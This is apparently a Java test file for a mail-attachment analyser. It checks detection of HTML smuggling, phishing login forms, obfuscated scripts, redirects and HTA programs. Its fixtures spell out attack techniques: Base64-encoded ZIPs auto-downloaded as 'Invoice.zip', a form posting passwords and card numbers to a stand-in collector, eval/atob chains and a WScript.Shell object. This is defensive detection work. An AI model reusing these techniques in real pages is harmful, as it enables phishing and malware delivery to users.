package gyotaku.dissect.page;

import static org.assertj.core.api.Assertions.assertThat;

import gyotaku.dissect.Dissector;
import gyotaku.model.Limits;
import gyotaku.model.mail.Enclosure;
import gyotaku.model.mail.Inside;
import gyotaku.model.mail.Link;
import gyotaku.model.mail.Opened;
import gyotaku.model.mail.Trait;
import gyotaku.model.mail.Words;
import gyotaku.model.mail.Written;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDateTime;
import java.util.Base64;
import java.util.List;
import java.util.stream.Collectors;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Pages as files. What they carry is a ZIP with one harmless line.
class PageReaderTest {

    private static Opened open(String name, String html) {
        byte[] bytes = html.getBytes(StandardCharsets.UTF_8);
        return new Dissector(Limits.standard()).open(new Enclosure(name, "text/html", bytes, List.of()));
    }

    private static Opened page(String html) {
        return open("a.html", "<!DOCTYPE html><html>" + html + "</html>");
    }

    private static byte[] archive() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            ZipEntry entry = new ZipEntry("readme.txt");
            entry.setTimeLocal(LocalDateTime.of(2026, 5, 14, 8, 30));
            zip.putNextEntry(entry);
            zip.write("harmless".getBytes(StandardCharsets.US_ASCII));
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return out.toByteArray();
    }

    private static String base64(byte[] bytes) {
        return Base64.getEncoder().encodeToString(bytes);
    }

    private static String base64(String text) {
        return base64(text.getBytes(StandardCharsets.UTF_8));
    }

    private static List<Trait.Kind> kinds(Opened opened) {
        return opened.traits().stream().map(Trait::kind).distinct().toList();
    }

    private static List<String> urls(Opened opened) {
        return opened.links().stream().map(Written::url).toList();
    }

    private static final String SAVE = "var b=new Blob([a],{type:'application/octet-stream'});"
            + "var u=URL.createObjectURL(b);var l=document.createElement('a');l.href=u;l.download='Invoice.zip';l.click();";

    /// The ways that pages of real campaigns keep the file that they build.
    private static String carried(String way) {
        String whole = base64(archive());
        String half = whole.substring(0, 100);
        String rest = whole.substring(100);
        return switch (way) {
            case "atob" -> "var a=atob('" + whole + "');";
            case "plus" -> "var a=atob(\"" + half + "\" + \n '" + rest + "');";
            case "array" -> "var a=atob(['" + half + "', '" + rest + "'].join(''));";
            case "reversed" -> "var a=atob('" + new StringBuilder(whole).reverse() + "'.split('').reverse().join(''));";
            case "twice" -> "var a=atob(atob('" + base64(whole) + "'));";
            case "numbers" -> "var a=new Uint8Array([" + numbers(archive()) + "]);";
            case "escaped" -> "var a=atob('" + escaped(whole) + "');";
            case "percent" -> "var a=atob(unescape('" + percent(whole) + "'));";
            default -> throw new AssertionError(way);
        };
    }

    private static String numbers(byte[] bytes) {
        StringBuilder out = new StringBuilder();
        for (byte b : bytes) {
            out.append(out.isEmpty() ? "" : ",").append(b & 255);
        }
        return out.toString();
    }

    private static String escaped(String text) {
        return text.chars().mapToObj("\\x%02x"::formatted).collect(Collectors.joining());
    }

    private static String percent(String text) {
        return text.chars().mapToObj("%%%02x"::formatted).collect(Collectors.joining());
    }

    @ParameterizedTest
    @ValueSource(strings = {"atob", "plus", "array", "reversed", "twice", "numbers", "escaped", "percent"})
    void filesThatAPageBuildsAreFound(String way) {
        Opened opened = page("<script>" + carried(way) + SAVE + "</script>");
        assertThat(kinds(opened)).contains(Trait.Kind.SMUGGLING);
        assertThat(opened.files()).extracting(Inside::name).containsExactly("Invoice.zip");
        assertThat(opened.files().getFirst().prints()).isEqualTo(gyotaku.parse.FilePrints.of(archive()));
        assertThat(opened.files().getFirst().opened().files())
                .extracting(Inside::name)
                .containsExactly("readme.txt");
    }

    @Test
    void anAnchorMayCarryTheFileItself() {
        Opened opened = page(
                "<a download='Invoice.zip' href='data:application/zip;base64," + base64(archive()) + "'>Invoice</a>");
        assertThat(kinds(opened)).containsExactly(Trait.Kind.SMUGGLING);
        assertThat(opened.files()).extracting(Inside::name).containsExactly("Invoice.zip");
        assertThat(opened.links()).isEmpty();
    }

    private static final String LOGIN =
            "<form method=post action='https://collect.example/login.php'><input name=user value='taro@example.co.jp'>"
                    + "<input type=password name=pass><input name=cc-number></form>";

    @Test
    void whatAPageAsksForIsTold() {
        Opened opened = page("<body>" + LOGIN + "<a href='https://help.example/'>Help</a></body>");
        assertThat(kinds(opened))
                .containsExactlyInAnyOrder(
                        Trait.Kind.FORM, Trait.Kind.PASSWORD_FIELD, Trait.Kind.CARD_FIELD, Trait.Kind.PREFILLED);
        assertThat(opened.traits())
                .contains(new Trait(Trait.Kind.FORM, "post https://collect.example/login.php (user, pass, cc-number)"));
        assertThat(opened.links())
                .containsExactly(
                        new Written("", "https://collect.example/login.php", Link.Context.FORM, ""),
                        new Written("Help", "https://help.example/", Link.Context.FILE, ""));
        assertThat(opened.texts()).extracting(Words::text).containsExactly("Help");
    }

    @ParameterizedTest
    @ValueSource(strings = {"unescape", "base64", "codes", "nested", "document", "data", "srcdoc"})
    void pagesThatScriptsWriteAreReadToo(String way) {
        String written = "<html><body>" + LOGIN + "</body></html>";
        String html = switch (way) {
            case "unescape" -> "<script>document.write(unescape('" + percent(written) + "'))</script>";
            case "base64" -> "<script>document.write(atob(\"" + base64(written) + "\"))</script>";
            case "codes" ->
                "<script>document.write(String.fromCharCode(" + numbers(written.getBytes(StandardCharsets.UTF_8))
                        + "))</script>";
            case "nested" ->
                "<script>eval(atob('" + base64("document.write(unescape('" + percent(written) + "'));")
                        + "'))</script>";
            case "document" -> "<script>document.write('" + written.replace("'", "\\'") + "')</script>";
            case "data" -> "<iframe src='data:text/html;base64," + base64(written) + "'></iframe>";
            case "srcdoc" -> "<iframe srcdoc=\"" + written + "\"></iframe>";
            default -> throw new AssertionError(way);
        };
        Opened opened = page(html);
        assertThat(kinds(opened)).contains(Trait.Kind.FORM, Trait.Kind.PASSWORD_FIELD, Trait.Kind.PREFILLED);
        assertThat(urls(opened)).contains("https://collect.example/login.php");
    }

    @Test
    void scriptsThatHideWhatTheyWriteAreNamed() {
        assertThat(kinds(page("<script>eval(unescape('" + percent("alert(1);alert(2)") + "'))</script>")))
                .contains(Trait.Kind.OBFUSCATED_SCRIPT);
        assertThat(kinds(page("<script>" + "var _0x4a2f=_0x1b3c(0x1);".repeat(10) + "</script>")))
                .containsExactly(Trait.Kind.OBFUSCATED_SCRIPT);
        assertThat(kinds(page("<script>" + "[][(![]+[])[+[]]]".repeat(60) + "</script>")))
                .containsExactly(Trait.Kind.OBFUSCATED_SCRIPT);
    }

    @Test
    void scriptsLeadOn() {
        Opened opened = page("<meta http-equiv=refresh content='0;url=https://one.example/'>"
                + "<script src='https://cdn.example/x.js'></script><iframe src='https://frame.example/'></iframe>"
                + "<script>window.location.href = 'https://two.example/' ; fetch(\"https://three.example/c.php\");"
                + "location.replace(atob('" + base64("https://four.example/in") + "'));"
                + "var who=atob('" + base64("taro@example.co.jp") + "');</script>");
        assertThat(opened.links())
                .contains(
                        new Written("", "https://one.example/", Link.Context.META_REFRESH, ""),
                        new Written("", "https://frame.example/", Link.Context.FRAME, ""),
                        new Written("", "https://cdn.example/x.js", Link.Context.OTHER, ""),
                        new Written("", "https://two.example/", Link.Context.META_REFRESH, "script"),
                        new Written("", "https://three.example/c.php", Link.Context.FORM, "script"),
                        new Written("", "https://four.example/in", Link.Context.FILE, "script"));
        assertThat(opened.traits())
                .containsExactlyInAnyOrder(
                        new Trait(Trait.Kind.EXTERNAL_LOAD, "https://cdn.example/x.js"),
                        new Trait(Trait.Kind.PREFILLED, "taro@example.co.jp"));
    }

    @Test
    void anApplicationIsAProgram() {
        Opened opened = open(
                "order.hta",
                "<html><head><HTA:APPLICATION ID=x></head><script language=VBScript>Set s = CreateObject(\"WScript.Shell\")"
                        + "</script></html>");
        assertThat(kinds(opened)).containsExactlyInAnyOrder(Trait.Kind.PROGRAM, Trait.Kind.COMMAND);
    }

    /// A statement as banks send it: a page with a table, a logo in it, a script that prints, and links home.
    @Test
    void anHonestPageIsOrdinary() {
        String dot = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
        String rows = "<tr><td>2026-05-01</td><td>4,200</td></tr>".repeat(30);
        Opened opened = page("<head><title>ご利用明細</title><style>td{padding:2px}</style>"
                + "<script>function p(){window.print();} document.getElementById('x').innerHTML='ok';</script></head>"
                + "<body><img src='data:image/png;base64," + dot + "'><h1>ご利用明細</h1><table>" + rows + "</table>"
                + "<a href='https://bank.example/' onclick='p()'>bank.example</a></body>");
        assertThat(opened.state()).isEqualTo(Opened.State.READ);
        assertThat(opened.traits()).isEmpty();
        assertThat(urls(opened)).containsExactly("https://bank.example/");
        assertThat(opened.texts().getFirst().text()).contains("ご利用明細");
    }

    @Test
    void aSavedPageHoldsItsParts() {
        String saved =
                "From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\";"
                        + " boundary=\"=_b\"\r\n\r\n--=_b\r\nContent-Type: text/html\r\nContent-Location: https://a.example/\r\n\r\n"
                        + "<html><body>" + LOGIN + "</body></html>\r\n--=_b--\r\n";
        Opened opened = open("a.mhtml", saved);
        assertThat(opened.shows(Trait.Kind.PASSWORD_FIELD)).isTrue();
        assertThat(opened.files()).extracting(Inside::name).containsExactly("https://a.example/");
    }

    @Test
    void pagesMadeOfDisguisesEnd() {
        String text = "document.write('<form>')";
        for (int i = 0; i < 12; i++) {
            text = "eval(atob('" + base64(text) + "'))";
        }
        String deep = text;
        assertThat(page("<script>" + deep + "</script>").state()).isEqualTo(Opened.State.READ);
        assertThat(page("<script>" + "'a'+".repeat(200_000) + "</script>").state())
                .isEqualTo(Opened.State.READ);
        assertThat(page("<script>" + "'<html>".repeat(50_000) + "</script>").state())
                .isEqualTo(Opened.State.READ);
        assertThat(page("<script>'" + "A".repeat(8 << 20) + "'</script>").state())
                .isEqualTo(Opened.State.READ);
    }
}
